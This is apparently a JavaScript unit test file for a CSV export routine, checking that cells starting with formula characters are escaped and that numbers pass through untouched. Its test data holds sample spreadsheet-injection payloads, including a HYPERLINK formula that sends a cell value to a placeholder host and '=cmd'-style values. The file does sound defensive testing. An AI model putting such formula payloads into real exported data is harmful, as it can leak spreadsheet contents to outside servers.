import assert from 'node:assert/strict';
import { test } from 'node:test';
import { csvField, neutraliseFormula } from '../../src/core/csvField';
import { rowsToCsv } from '../../src/core/plots/plotData';

void test('formula text is neutralised, numbers stay numbers', () => {
  assert.equal(neutraliseFormula('=HYPERLINK("x")'), '\'=HYPERLINK("x")');
  assert.equal(neutraliseFormula('@a'), "'@a");
  assert.equal(neutraliseFormula('+cmd'), "'+cmd");
  assert.equal(neutraliseFormula('-2+3'), "'-2+3");
  assert.equal(neutraliseFormula('\t=1'), "'\t=1");
  assert.equal(neutraliseFormula('\r1'), "'\r1");
  for (const number of ['-2', '+1', '-0.5', '1e-7', '-1.5E+3', '.5', '-Infinity', '42'])
    assert.equal(neutraliseFormula(number), number, number);
  assert.equal(neutraliseFormula('plain'), 'plain');
  assert.equal(csvField('=HYPERLINK("x")'), '"\'=HYPERLINK(""x"")"');
});

void test('plot data exports neutralise formula cells like the table export does', () => {
  const csv = rowsToCsv([
    { step: -2, note: '=HYPERLINK("https://example.invalid?d="&A1)', tag: '@a', loss: '-2', gain: '+1' },
    { step: 1, note: '+SUM(A1:A2)', tag: '-x', loss: '0.5', gain: '+1' },
  ]);
  assert.equal(
    csv,
    'step,note,tag,loss,gain\n' +
      '-2,"\'=HYPERLINK(""https://example.invalid?d=""&A1)",\'@a,-2,+1\n' +
      "1,'+SUM(A1:A2),'-x,0.5,+1\n",
  );
  assert.equal(rowsToCsv([{ '=cmd': 1 }]).split('\n')[0], "'=cmd", 'field names too');
});
